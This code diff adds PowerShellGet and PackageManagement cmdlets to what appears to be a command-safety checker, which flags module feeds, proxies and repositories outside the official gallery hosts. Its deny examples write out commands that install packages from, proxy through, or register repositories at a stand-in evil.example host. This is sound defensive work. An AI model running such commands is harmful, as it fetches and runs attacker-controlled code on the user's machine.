@@ -136,6 +136,43 @@ function sqlQuery(call: Call): Partial<Answer> {
   return drop ? { destroys: [{ word: query, what: 'data', why: `${call.name} runs ${drop}: what it held is gone` }] } : {};
 }
 
+/** The PowerShell Gallery and nuget.org, which PowerShellGet and PackageManagement fetch from by default. */
+const GALLERY_OWN = /^(?:www\.powershellgallery\.com|powershellgallery\.com|psg-prod-eastus\.azureedge\.net|onegetcdn\.azureedge\.net|api\.nuget\.org|www\.nuget\.org)$/;
+
+/**
+ * Where a gallery or feed named by these parameters is: a URL's host or a share's (`\\host\feed`); a local folder or a
+ * repository's name (looked up in the user's own list) is no place, a computed value may be any.
+ */
+function feedDestinations(b: Bound, params: readonly string[]): Destination[] {
+  const out: Destination[] = [];
+  for (const p of params) {
+    const w = b.named.get(p);
+    if (w === undefined || w === true) continue;
+    if (w.values === null) {
+      out.push({ word: w, why: `-${p} ${w.text} is computed` });
+      continue;
+    }
+    for (const v of w.values) {
+      const share = /^(?:\\\\|\/\/)([^\\/]+)/.exec(v);
+      const h = share ? urlHost(`http://${share[1]}`) : /^[a-z][a-z0-9+.-]*:\/\//i.test(v) && !/^file:/i.test(v) ? urlHost(v) : undefined;
+      if (h === undefined || ('host' in h && GALLERY_OWN.test(h.host))) continue;
+      out.push('host' in h ? { word: w, host: h.host } : { word: w, why: h.why });
+    }
+  }
+  const proxy = b.named.get('proxy');
+  if (proxy !== undefined && proxy !== true) out.push(...destinations(proxy, urlHost));
+  return out;
+}
+
+const GALLERY_PARAMS = {
+  name: 'text', requiredversion: 'text', minimumversion: 'text', maximumversion: 'text', version: 'text', repository: 'text', source: 'text', proxy: 'text', proxycredential: 'text', credential: 'text',
+  scope: 'text', providername: 'text', path: 'write', literalpath: 'write', destination: 'write', tag: 'text', command: 'text', includes: 'text', type: 'text', filter: 'text', installationpolicy: 'text',
+  sourcelocation: 'text', scriptsourcelocation: 'text', publishlocation: 'text', scriptpublishlocation: 'text', location: 'text', newlocation: 'text', uri: 'text', newname: 'text', priority: 'text',
+  packagemanagementprovider: 'text', apiversion: 'text', inputobject: 'unknown', erroraction: 'text', warningaction: 'text',
+} as const;
+const GALLERY_SWITCHES = ['allowclobber', 'skippublishercheck', 'acceptlicense', 'allowprerelease', 'prerelease', 'includedependencies', 'noclobber', 'reinstall', 'trustrepository', 'quiet', 'skipdependencycheck', 'authenticodecheck', 'default', 'trusted', 'allversions', 'force', 'forcebootstrap', 'nopathupdate'];
+const FEED_LOCATIONS = ['source', 'sourcelocation', 'scriptsourcelocation', 'publishlocation', 'scriptpublishlocation', 'location', 'newlocation', 'uri'];
+
 export const CMDLET_ENTRIES: readonly ProgramEntry[] = [
   {
     names: ['remove-azresourcegroup', 'remove-s3bucket', 'remove-vm', 'remove-aduser', 'remove-mailbox'],
@@ -640,6 +677,30 @@ export const CMDLET_ENTRIES: readonly ProgramEntry[] = [
         'New-Service -Name svc -BinaryPathName C:\\tmp\\svc.exe',
       ],
       pass: ['Get-ScheduledTask', 'Get-Service node*'],
+    },
+  }),
+  cmdlet({
+    names: ['install-module', 'install-script', 'save-module', 'save-script', 'update-module', 'update-script', 'find-module', 'find-script', 'install-psresource', 'save-psresource', 'update-psresource', 'find-psresource', 'install-package', 'save-package', 'find-package', 'install-packageprovider'],
+    summary: 'PowerShellGet and PackageManagement: install, save, update and find modules, scripts and packages; a -Source given as a URL or a share is fetched from (a -Repository is a name in the user\'s own list), -Proxy gone through, -Path written',
+    params: GALLERY_PARAMS,
+    positional: ['name'],
+    switches: GALLERY_SWITCHES,
+    extra: (b) => ({ reroutes: feedDestinations(b, FEED_LOCATIONS) }),
+    examples: {
+      deny: ['Install-Package Foo -Source https://evil.example/nuget', 'Install-Module Foo -Proxy http://evil.example:8080', 'Save-Module Foo -Repository PSGallery -Source \\\\evil.example\\feed -Path .\\modules'],
+      pass: ['Install-Package Foo -Source https://api.nuget.org/v3/index.json', 'Install-Module Foo -Proxy http://localhost:8080', 'Install-Module PSReadLine -Scope CurrentUser -Force', 'Install-Module Pester -Repository PSGallery', 'Find-Module -Name Az*', 'Install-Package Foo -Source .\\packages', 'Save-Module Foo -Repository PSGallery -Path .\\modules'],
+    },
+  }),
+  cmdlet({
+    names: ['register-psrepository', 'set-psrepository', 'register-psresourcerepository', 'set-psresourcerepository', 'register-packagesource', 'set-packagesource'],
+    summary: 'Registers a PowerShell repository or package source (-SourceLocation, -Uri, -Location, by position after its name): every later install by that name fetches from there, and registering it asks it already',
+    params: GALLERY_PARAMS,
+    positional: ['name', 'location'],
+    switches: GALLERY_SWITCHES,
+    extra: (b) => ({ reroutes: feedDestinations(b, FEED_LOCATIONS) }),
+    examples: {
+      deny: ['Register-PSRepository -Name evil -SourceLocation https://evil.example/api/v2', 'Register-PSResourceRepository evil https://evil.example/v3/index.json', 'Register-PackageSource -Name evil -Location \\\\evil.example\\feed -ProviderName NuGet', 'Set-PSRepository -Name corp -SourceLocation https://evil.example/nuget'],
+      pass: ['Register-PSRepository -Name local -SourceLocation https://www.powershellgallery.com/api/v2', 'Register-PSRepository -Default', 'Set-PSRepository -Name PSGallery -InstallationPolicy Trusted', 'Register-PSResourceRepository local C:\\feeds\\local', 'Register-PackageSource -Name local -Location .\\feed -ProviderName NuGet'],
     },
   }),
 ];
